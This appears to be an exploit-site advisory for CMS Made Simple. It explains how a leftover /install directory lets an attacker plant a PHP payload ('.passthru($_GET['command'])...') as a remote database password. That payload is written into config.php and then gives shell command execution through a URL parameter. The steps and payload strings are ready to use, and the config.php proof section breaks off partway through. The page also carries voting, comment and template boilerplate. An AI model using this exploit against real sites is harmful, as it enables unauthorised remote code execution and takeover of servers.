CMS Made Simple Install SQL Injection Command Execution

Credit: SAHM
Risk: High
Local: No
Remote: Yes

# CMS Made Simple PHP Code Injection Vulnerability (All versions) # 2014-12-02 # SAHM ( # # All versions ---exploit A malicious attacker can intrude every CMSMS-installed website by taking the following steps: Open the /install folder from the URL (The cms doesn't force users to delete the directory after finishing the installation progress). Ex: http://URL/PATH/install Pass through the steps to get to the fifth step. In a remote host, install a MySQL server and create the following user: user: test password : '.passthru($_GET['command']);exit;// Following that, Create a remotely accessible database and grant all privileges to the user (for further information please read : . Fill in the Database Information form (bottom of the page). db host address: the remote host's IP user: test password: '.system($_GET['command']);exit;// database name: the name of the remote database which has been built After installation, commands can be injected as: http://URL/PATH?command=blah%20blah ---prove At this point, the config.php file content would be something like this: <?php # CMS Made Simple Configuration File # Documentation: /doc/CMSMS_config_reference.pdf #

Vote for thisissue:


Thanks for you vote!


Thanks for you comment!
Your message is in quarantine 48 hours.

Comment it here.

(*) - required fields.
{{ x.nick }} | Date: {{ x.ux * 1000 | date:'yyyy-MM-dd' }} {{ x.ux * 1000 | date:'HH:mm' }} CET+1
{{x.comment }}

Copyright 2021,


Back to Top